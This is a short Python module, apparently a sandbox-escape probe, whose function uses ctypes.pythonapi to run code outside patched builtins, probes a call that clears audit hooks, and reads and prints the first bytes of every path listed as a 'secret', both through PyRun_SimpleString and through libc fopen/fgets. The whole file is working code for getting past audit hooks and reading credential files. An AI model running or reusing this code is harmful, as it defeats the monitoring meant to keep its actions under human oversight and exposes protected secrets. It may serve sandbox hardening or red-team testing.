"""Uses the interpreter's own C functions to skip audit hooks, patched builtins and reference counts."""

import ctypes


def python_api(targets: dict) -> dict:
    """Be clever."""
    api = ctypes.pythonapi
    api.PyRun_SimpleString.argtypes = [ctypes.c_char_p]
    print("PRIMITIVE", api.PyRun_SimpleString)
    for path in targets["secrets"].values():
        api.PyRun_SimpleString(f"import os\ntry:\n    print(os.read(os.open({path!r}, 0), 200).decode())\nexcept OSError as e:\n    print(e)\n".encode())
    try:
        api.PySys_ClearAuditHooks
    except AttributeError as error:
        print(error)
    api.fopen.restype = ctypes.c_void_p
    for path in targets["secrets"].values():
        stream = api.fopen(path.encode(), b"r")
        if stream:
            text = ctypes.create_string_buffer(200)
            api.fgets(text, 200, ctypes.c_void_p(stream))
            print(text.value.decode())
    return {"status": "clever"}
